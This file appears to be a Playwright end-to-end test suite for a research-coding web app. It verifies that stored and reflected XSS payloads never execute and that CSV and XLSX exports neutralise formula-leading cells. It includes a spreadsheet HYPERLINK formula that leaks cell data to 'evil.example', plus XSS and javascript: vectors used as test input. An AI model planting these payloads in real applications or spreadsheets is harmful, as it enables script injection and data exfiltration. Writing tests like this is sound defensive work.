import type { Browser, Page } from "@playwright/test";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { newPerson, SignUpPage, type Credentials } from "../pages/auth-pages";
import { ApiClient } from "../pages/api-client";
import { CodebookManagePage } from "../pages/codebook-manage-page";
import { CodingWorkspacePage } from "../pages/coding-workspace";
import { expect, test } from "../pages/fixtures";
import { ScriptWatch, VECTORS as V } from "../pages/script-watch";

/**
 * Stored XSS, end to end: script payloads go into every field a person can write — through the
 * UI where only the UI writes it (names at sign-up, memos, saved queries and reports), through
 * the API elsewhere — then every page of the project is opened and every export downloaded.
 * Nothing may run (no dialog, no `window.__pwned`, not even a CSP violation: text must reach the
 * page as text, so no payload should get as far as being blocked), each payload shows as text,
 * and spreadsheet-bound files never start a cell with a formula.
 */
test.describe.configure({ mode: "serial" });

const FULL = [V.script, V.img, V.svg, V.template].join(" ");
const SHORT = `${V.img}${V.svg}`; // for fields of 100–120 characters; code names cannot hold "/"
/** A field's payload: a formula start for the exports, a label to find it by, the markup. */
const payload = (start: "=" | "+" | "-" | "@", label: string, markup = FULL) => `${start}${label} ${markup}`;

const P = {
  ownerName: payload("=", "Owner", SHORT),
  coderName: payload("+", "Coder", SHORT),
  project: payload("@", "Project"),
  description: payload("-", "Description"),
  code: payload("=", "Code", SHORT),
  subCode: payload("-", "Sub", SHORT),
  definition: payload("=", "Definition"),
  include: payload("+", "Include"),
  exclude: payload("-", "Exclude"),
  examples: payload("@", "Examples"),
  textAttribute: payload("=", "Attr", SHORT),
  choiceAttribute: payload("+", "Choice", SHORT),
  choice: payload("@", "Option"),
  textValue: payload("-", "Value"),
  title: payload("=", "Title"),
  author: payload("+", "Author"),
  fileName: `-File ${V.img}.txt`,
  codingMemo: payload("=", "CodingMemo"),
  popoverMemo: payload("@", "PopoverMemo"),
  projectMemo: payload("=", "ProjectMemo"),
  documentMemo: payload("+", "DocumentMemo"),
  codeMemo: payload("-", "CodeMemo"),
  savedQuery: payload("=", "Query"),
  savedReport: payload("+", "Report"),
  token: payload("@", "Token", SHORT),
} as const;

const LINES = [
  `The committee pressed the government to ratify the convention. ${V.script}`,
  `=HYPERLINK("http://evil.example/?leak="&A1,"Click") was typed into the hearing record.`,
  `The minister answered ${V.img} and ${V.svg} on the record.`,
  `${V.template} closes the session; ${V.js} is not a link.`,
];
const TEXT = LINES.join("\n\n");
/** An uploaded file's text; its first line becomes its title. */
const UPLOADED = `A second report. ${V.img}`;
const span = (line: number) => {
  const start = [...LINES.slice(0, line).join("\n\n")].length + (line > 0 ? 2 : 0);
  return { start, end: start + [...LINES[line]!].length };
};

type Ids = { projectId: string; documentId: string; uploadId: string; codeId: string; subCodeId: string; codingId: string };
let ids: Ids;
let owner: Credentials;
let api: ApiClient;
let ownerSession: Awaited<ReturnType<import("@playwright/test").BrowserContext["storageState"]>>;

async function person(browser: Browser, first: string, name: string): Promise<{ page: Page; who: Credentials }> {
  const page = await (await browser.newContext()).newPage();
  const who = { ...newPerson(first), name };
  await new SignUpPage(page).signUp(who);
  return { page, who };
}

/** Types into a memo editor (Tiptap) and waits for its autosave. */
async function writeMemo(page: Page, editor: import("@playwright/test").Locator, text: string, saved: import("@playwright/test").Locator) {
  await editor.click();
  await page.keyboard.insertText(text);
  await expect(saved).toBeVisible();
}

test("the watch sees what the page policy blocks: markup injected behind the app's back does not run", async ({ browser }) => {
  // If the app ever put stored text into the page as markup, this is what would happen: the CSP
  // (no 'unsafe-inline' scripts) refuses the handler and the javascript: URL, and the watch used
  // below reports it. So the tests that follow can see a payload that got that far.
  const context = await browser.newContext();
  const watch = await ScriptWatch.on(context);
  const page = await context.newPage();
  await page.goto("/sign-in");
  await page.evaluate(([img, js]) => {
    document.body.insertAdjacentHTML("beforeend", img);
    const link = document.createElement("a");
    link.href = js;
    document.body.append(link);
    link.click();
  }, [V.img, V.js] as const);
  // The handler (script-src-attr) and the javascript: URL (Chromium files it under script-src-elem).
  await expect.poll(() => watch.violations.length).toBe(2);
  for (const v of watch.violations) expect(v.directive).toMatch(/^script-src/);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  await context.close();
});

test("payloads go into every user-writable field", async ({ browser }) => {
  test.setTimeout(120_000);
  const ownerSide = await person(browser, "Xena", P.ownerName);
  const coderSide = await person(browser, "Cody", P.coderName);
  owner = ownerSide.who;
  const page = ownerSide.page;
  api = await ApiClient.for(page.request, owner, P.token);

  // Project, codebook, attributes, documents, members and codings through the API.
  const project = await api.json("POST", "/api/v1/projects", { name: P.project });
  const base = `/api/v1/projects/${project.id}`;
  await api.json("PATCH", base, { description: P.description });
  const code = await api.json("POST", `${base}/codes`, { name: P.code, definition: P.definition, include: P.include, exclude: P.exclude, examples: P.examples });
  const subCode = await api.json("POST", `${base}/codes`, { name: P.subCode, parentId: code.id, definition: P.definition });
  await api.json("POST", `${base}/attributes`, { name: P.textAttribute, type: "text" });
  await api.json("POST", `${base}/attributes`, { name: P.choiceAttribute, type: "choice", choices: [P.choice, "plain option"] });
  const doc = await api.json("POST", `${base}/documents`, { title: P.title, text: TEXT, attributes: { [P.textAttribute]: P.textValue, [P.choiceAttribute]: P.choice } });
  await api.json("PATCH", `${base}/documents/${doc.id}`, { author: P.author, publishedOn: "2021-06-01", url: `https://example.org/?q=${encodeURIComponent(V.script)}` });
  // A javascript: URL is refused with a message, and changes nothing.
  const refused = await api.send("PATCH", `${base}/documents/${doc.id}`, { url: V.js, author: "changed" });
  expect(refused.status()).toBe(400);
  expect((await refused.json()).error.message).toBe("url: The URL must start with http:// or https://.");
  expect((await api.json("GET", `${base}/documents/${doc.id}`)).author).toBe(P.author);
  const upload = await page.request.post(`${base}/documents`, {
    headers: api.headers,
    multipart: { file: { name: P.fileName, mimeType: "text/plain", buffer: Buffer.from(`${UPLOADED}\n`) } },
  });
  expect(upload.status(), await upload.text()).toBe(201);
  await api.json("POST", `${base}/members`, { email: coderSide.who.email, role: "coder" });
  const coding = await api.json("POST", `${base}/codings`, { documentId: doc.id, codeId: code.id, ...span(0), memo: P.codingMemo });
  await api.json("POST", `${base}/codings`, { documentId: doc.id, codeId: code.id, ...span(1) });
  await api.json("POST", `${base}/codings`, { documentId: doc.id, codeId: subCode.id, ...span(2) });
  const coderApi = await ApiClient.for(coderSide.page.request, coderSide.who);
  await coderApi.json("POST", `${base}/codings`, { documentId: doc.id, codeId: code.id, ...span(0) });
  await coderApi.json("POST", `${base}/codings`, { documentId: doc.id, codeId: code.id, ...span(2) });
  ids = { projectId: project.id, documentId: doc.id, uploadId: (await upload.json()).id, codeId: code.id, subCodeId: subCode.id, codingId: coding.id };
  await coderSide.page.context().close();

  // Memos, through their editors: on the project, a document, a code; a coding's in its popover.
  const projectPath = `/projects/${ids.projectId}`;
  await page.goto(`${projectPath}/memos`);
  await writeMemo(page, page.getByRole("textbox", { name: "Your memo on the project" }), P.projectMemo, page.getByRole("region", { name: /project memo/i }).getByText("Saved", { exact: true }));
  await page.getByLabel("Document", { exact: true }).selectOption({ label: P.title });
  const docMemo = page.getByRole("region", { name: "Document memo" });
  await writeMemo(page, docMemo.getByRole("textbox"), P.documentMemo, docMemo.getByText("Saved", { exact: true }));
  await page.goto(projectPath);
  const sheet = await new CodebookManagePage(page).openDetails(P.code);
  await writeMemo(page, sheet.getByRole("textbox", { name: `Your memo on “${P.code}”` }), P.codeMemo, sheet.getByText("Saved", { exact: true }));
  await page.goto(`${projectPath}/documents/${ids.documentId}`);
  const ws = new CodingWorkspacePage(page);
  await ws.waitReady();
  await ws.clickText("on the record");
  await ws.popover().getByLabel("Memo").first().fill(P.popoverMemo);
  await ws.popover().getByText("Codings here").click();
  await expect.poll(async () => (await api.json("GET", `${base}/codings?documentId=${ids.documentId}`)).some((c: { memo: string }) => c.memo === P.popoverMemo)).toBe(true);

  // A saved retrieval query and a saved agreement report, named in their forms.
  await page.goto(`${projectPath}/analysis/retrieve?a=${ids.codeId}`);
  await page.getByLabel("Query name").fill(P.savedQuery);
  await page.getByRole("button", { name: "Save query" }).click();
  await expect(page.getByRole("link", { name: P.savedQuery })).toBeVisible();
  await page.goto(`${projectPath}/agreement?samples=0`);
  await page.getByLabel("Report name").fill(P.savedReport);
  await page.getByRole("button", { name: "Save this report" }).click();
  await expect(page.getByRole("link", { name: P.savedReport })).toBeVisible();
  ownerSession = await page.context().storageState();
  await page.context().close();
});

test("no script runs on any page of the project, and every payload shows as text", async ({ browser }) => {
  test.setTimeout(120_000);
  const context = await browser.newContext({ storageState: ownerSession });
  const watch = await ScriptWatch.on(context);
  const page = await context.newPage();
  const base = `/projects/${ids.projectId}`;

  /** Opens a page, checks nothing ran, and that each of `shown` is on it as text. */
  const visit = async (path: string, shown: string[] = []) => {
    const response = await page.goto(path);
    expect(response?.status(), path).toBeLessThan(400);
    for (const text of shown) await expect(page.getByText(text, { exact: false }).filter({ visible: true }).first(), `${path}: ${text}`).toBeVisible();
    await watch.expectClean(page);
  };

  await visit("/projects", [P.project]);
  await visit(base, [P.code, P.subCode, P.definition, P.include, P.exclude, P.examples]);
  await visit(`${base}/documents`, [P.title, P.textValue, P.choice, UPLOADED]);
  await visit(`${base}/documents/${ids.documentId}`, [P.title, P.author, LINES[0]!, LINES[2]!, LINES[3]!]);
  await new CodingWorkspacePage(page).waitReady();
  await expect(page.getByRole("link", { name: new RegExp(`^https://example\\.org/`) })).toHaveAttribute("href", /^https:\/\/example\.org\//);
  await visit(`${base}/documents/${ids.uploadId}`, [UPLOADED]);
  await visit(`${base}/search?q=committee`, [P.title]);
  await visit(`${base}/attributes`, [P.textAttribute, P.choiceAttribute, P.choice]);
  await visit(`${base}/assignments`);
  await visit(`${base}/memos`, [P.projectMemo, P.documentMemo, P.codeMemo]);
  for (const kind of ["code-document", "code-coder", "cooccurrence", "timeline"]) await visit(`${base}/analysis?kind=${kind}`, [P.code]);
  await visit(`${base}/analysis?kind=code-attribute&attribute=${encodeURIComponent(P.choiceAttribute)}&split=attribute`, [P.choice]);
  // The chart as an image, and as a PNG drawn in the browser from a blob: SVG.
  await expect(page.getByRole("img", { name: /heat map/ })).toBeVisible();
  expect(await page.getByRole("img", { name: /heat map/ }).evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0)).toBe(true);
  const [png] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Chart as PNG" }).click()]);
  expect(png.suggestedFilename()).toBe("code-attribute.png");
  await watch.expectClean(page);
  await page.getByRole("table", { name: "Code frequencies" }).getByRole("link").first().click();
  await expect(page).toHaveURL(/\/analysis\/passages\?/);
  await expect(page.getByTestId("passage").first()).toBeVisible();
  await watch.expectClean(page);
  await visit(`${base}/analysis/retrieve?a=${ids.codeId}`, [P.savedQuery, LINES[1]!]);
  await visit(`${base}/agreement?samples=0`, [P.savedReport, P.ownerName, P.coderName]);
  await page.getByRole("table", { name: "Agreement per code" }).getByRole("link").first().click();
  await expect(page).toHaveURL(/\/agreement\/(disagreements|segments)\?/);
  await watch.expectClean(page);
  await visit(`${base}/agreement/adjudicate?samples=0`, [P.code]);
  await visit(`${base}/export`, [P.code]);
  await visit(`${base}/export/report`, [P.project, P.definition, LINES[0]!, P.codingMemo]);
  await visit(`${base}/activity`, [P.title]);
  await visit(`${base}/activity/codings/${ids.codingId}`, [P.codingMemo]);
  await visit(`${base}/members`, [P.ownerName, P.coderName]);
  await visit(`${base}/settings`, [P.project]);
  await visit(`${base}/suggester`);
  await visit("/settings", [P.token]);

  // What comes back from the URL is text too (reflected input).
  await visit(`${base}/search?q=${encodeURIComponent(FULL)}&mode=phrase`);
  await expect(page.getByRole("searchbox", { name: "Search for" })).toHaveValue(FULL);
  await visit(`${base}/documents?search=${encodeURIComponent(V.img)}`);
  await visit(`${base}/analysis?kind=${encodeURIComponent(V.svg)}`);
  await visit(`${base}/agreement?unit=${encodeURIComponent(V.img)}`, [V.img]);
  const signedOut = await browser.newContext();
  const outsideWatch = await ScriptWatch.on(signedOut);
  const outside = await signedOut.newPage();
  for (const path of [`/sign-in?next=${encodeURIComponent(V.js)}`, `/sign-in?error=${encodeURIComponent(V.script)}&code=${encodeURIComponent(V.img)}`]) {
    await outside.goto(path);
    await outsideWatch.expectClean(outside);
  }
  await signedOut.close();

  // The chart's SVG opened on its own: rendered in a sandbox, and its labels are escaped text.
  const svgUrl = `/api/v1/projects/${ids.projectId}/matrix?kind=code-coder&format=svg`;
  const svg = await (await page.request.get(svgUrl)).text();
  expect(svg).toContain("&lt;img");
  expect(svg).not.toMatch(/<(img|script)\b/);
  await page.goto(svgUrl);
  expect(watch.dialogs).toEqual([]);
  await context.close();
});

const FORMULA = /^[=+\-@\t\r]/;
const rowsOf = (csv: string) => parse(csv.replace(/^\uFEFF/, ""), { columns: true, relax_column_count: true }) as Record<string, string>[];

test("exports: spreadsheet files never start a cell with a formula; the exact CSV and JSON keep the text exactly", async ({ request }) => {
  const get = async (path: string) => {
    const res = await request.get(path, { headers: api.headers });
    expect(res.status(), `${path}: ${res.status()}`).toBe(200);
    return res;
  };
  const base = `/api/v1/projects/${ids.projectId}`;
  const everyCell = (rows: Record<string, string>[], skip: string[] = []) =>
    rows.flatMap((r) => Object.entries(r).filter(([k]) => !skip.includes(k)).map(([, v]) => v ?? ""));

  // CSV for spreadsheets: every text cell neutralised, the payloads otherwise intact.
  const excel = rowsOf(await (await get(`${base}/export?format=csv-excel`)).text());
  expect(excel.length).toBe(5);
  expect(everyCell(excel).filter((v) => FORMULA.test(v))).toEqual([]);
  expect(excel.map((r) => r.quote)).toContain(`'${LINES[1]}`);
  expect(excel[0]!.project_name).toBe(`'${P.project}`);
  expect(excel.map((r) => r.code_name)).toContain(`'${P.code}`);
  expect(excel.map((r) => r.coder_name)).toEqual(expect.arrayContaining([`'${P.ownerName}`, `'${P.coderName}`]));
  expect(excel.map((r) => r.memo)).toContain(`'${P.codingMemo}`);
  expect(excel[0]![`attr:${P.textAttribute}`]).toBe(`'${P.textValue}`);

  // The CSV for R, Stata and pandas: quotes equal the text at their offsets, to the character.
  const exact = rowsOf(await (await get(`${base}/export?format=csv`)).text());
  const text = [...(await (await get(`${base}/documents/${ids.documentId}`)).json()).text] as string[];
  for (const r of exact.filter((r) => r.document_id === ids.documentId)) expect(r.quote).toBe(text.slice(Number(r.start), Number(r.end)).join(""));
  expect(exact.map((r) => r.quote)).toContain(LINES[1]);
  expect(exact[0]!.project_name).toBe(P.project);

  // The workbook: typed cells, text as strings, no formula anywhere.
  const book = new ExcelJS.Workbook();
  await book.xlsx.load((await (await get(`${base}/export?format=xlsx`)).body()) as unknown as ArrayBuffer);
  const strings: string[] = [];
  for (const sheet of book.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula, `${sheet.name}!${cell.address}`).toBeUndefined();
        if (typeof cell.value === "string") strings.push(cell.value);
      }),
    );
  }
  expect(strings).toEqual(expect.arrayContaining([LINES[1], P.project, P.code, P.definition, P.choice, P.ownerName]));

  // JSON is data, not a spreadsheet: exact.
  const json = await (await get(`${base}/export?format=json`)).json();
  expect(json.map((r: { quote: string }) => r.quote)).toContain(LINES[1]);

  // The codebook as CSV (for spreadsheets) neutralised; as Markdown with its markup escaped.
  const codebook = rowsOf(await (await get(`${base}/export?format=codebook-csv`)).text());
  expect(everyCell(codebook).filter((v) => FORMULA.test(v))).toEqual([]);
  expect(codebook.map((r) => r.name)).toEqual(expect.arrayContaining([`'${P.code}`, `'${P.subCode}`]));
  const markdown = await (await get(`${base}/export?format=codebook-md`)).text();
  // Markdown renderers pass raw HTML through; every "<" of a name or definition is escaped.
  expect(markdown).toContain(`## ${P.code.replaceAll("<", "\\<").replaceAll(">", "\\>").replaceAll("_", "\\_")}`);
  expect(markdown).not.toMatch(/(?<!\\)<(img|script|svg)\b/);

  // Every analysis table as CSV.
  for (const kind of ["code-document", "code-coder", "cooccurrence", "timeline"]) {
    const csv = await (await get(`${base}/matrix?kind=${kind}&format=csv`)).text();
    const cells = parse(csv, { relax_column_count: true }).flat() as string[];
    expect(cells.filter((v) => FORMULA.test(v)), kind).toEqual([]);
    expect(cells, kind).toContain(`'${P.code}`);
  }
  const byAttribute = parse(await (await get(`${base}/matrix?kind=code-attribute&attribute=${encodeURIComponent(P.choiceAttribute)}&format=csv`)).text()).flat() as string[];
  expect(byAttribute).toContain(`'${P.choice}`);
  expect(byAttribute.filter((v) => FORMULA.test(v))).toEqual([]);

  // The agreement report as CSV: text cells neutralised; figures stay numbers (κ may be negative).
  const agreement = rowsOf(await (await get(`${base}/agreement?samples=0&format=csv`)).text());
  expect(agreement.length).toBeGreaterThan(0);
  const NUMERIC = ["value", "ci_low", "ci_high", "ci_level", "n", "threshold", "seed"];
  expect(everyCell(agreement, NUMERIC).filter((v) => FORMULA.test(v))).toEqual([]);
  for (const r of agreement) for (const k of NUMERIC) expect(r[k] === "" || Number.isFinite(Number(r[k])), `${k}=${r[k]}`).toBe(true);
  expect(agreement.map((r) => r.code)).toContain(`'${P.code}`);
  expect(agreement[0]!.project).toBe(`'${P.project}`);
});
